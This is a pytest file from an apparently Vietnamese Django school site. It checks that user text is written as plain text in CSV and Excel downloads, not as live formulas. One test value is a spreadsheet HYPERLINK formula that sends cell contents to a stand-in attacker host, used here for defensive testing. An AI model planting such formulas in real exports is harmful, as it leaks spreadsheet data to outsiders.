"""No cell the project writes from user text is a live formula in Excel (issue 21): a
school named "=HYPERLINK(…)" comes out as text in every CSV and XLSX download."""

import csv
import io

from django.urls import reverse

import pytest
from openpyxl import load_workbook

from publicity.compliance import compute
from publicity.export import csv_bytes, rollup_csv_bytes, rollup_xlsx_bytes, xlsx_bytes
from publicity.rollup import rollup
from sites.cells import neutralise
from sites.roles import OfficeRole
from tests.factories import NewsPageFactory, make_office_user, make_school

pytestmark = pytest.mark.django_db

YEAR = "2025-2026"
EVIL = '=HYPERLINK("http://lua-dao.example/?"&A1;"Bấm vào đây")'


@pytest.mark.parametrize(
    "value, written",
    [
        (EVIL, "'" + EVIL),
        ("+84 905 000 000", "'+84 905 000 000"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("THCS Kim Đồng", "THCS Kim Đồng"),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralise(value, written):
    assert neutralise(value) == written


def no_formula_text(values):
    return [v for v in values if isinstance(v, str) and v.startswith(("=", "+", "-", "@"))]


def xlsx_values(content):
    book = load_workbook(io.BytesIO(content))
    values, types = [], set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                values.append(cell.value)
                types.add(cell.data_type)
    return values, types


def test_dashboard_and_rollup_downloads_write_the_name_as_text(office):
    school = make_school(EVIL, level="THCS", office=office)
    matrix = compute(YEAR)
    rows = list(csv.reader(io.StringIO(csv_bytes(matrix).decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + EVIL in cells and not no_formula_text(cells)

    values, types = xlsx_values(xlsx_bytes(matrix, None, YEAR, office.name))
    assert "'" + EVIL in values and not no_formula_text(values) and "f" not in types

    inspector = make_office_user(office, OfficeRole.INSPECTOR, "kiemtra")
    facts, office_rows = rollup(inspector, YEAR)
    rollup_cells = [
        c
        for row in csv.reader(io.StringIO(rollup_csv_bytes(office_rows).decode("utf-8-sig")))
        for c in row
    ]
    assert not no_formula_text(rollup_cells)
    values, types = xlsx_values(rollup_xlsx_bytes(facts, office_rows, EVIL))
    assert "'" + EVIL in values and not no_formula_text(values) and "f" not in types
    assert school.name == EVIL  # stored as typed; only the download is neutralised


def test_wagtails_own_report_downloads_are_neutralised(client, superuser, school):
    page = NewsPageFactory.for_school(school, title="=1+2")
    page.locked, page.locked_by = True, superuser
    page.save()
    client.force_login(superuser)
    url = reverse("wagtailadmin_reports:locked_pages")
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'=1+2" in cells and not no_formula_text(cells)


def test_sector_open_data_csv_writes_the_name_as_text():
    from publicity.sector_data.open_data import csv_text

    data = {
        "school_year": YEAR,
        "schools": [
            {
                "name": EVIL,
                "slug": "thcs-kim-dong",
                "items": {
                    "pt_res": {"figures": {"khoi_6": {"tong": 3}}, "imported_on": "2026-01-01"}
                },
            }
        ],
    }
    cells = [c for row in csv.reader(io.StringIO(csv_text(data))) for c in row]
    assert "'" + EVIL in cells and not no_formula_text(cells)
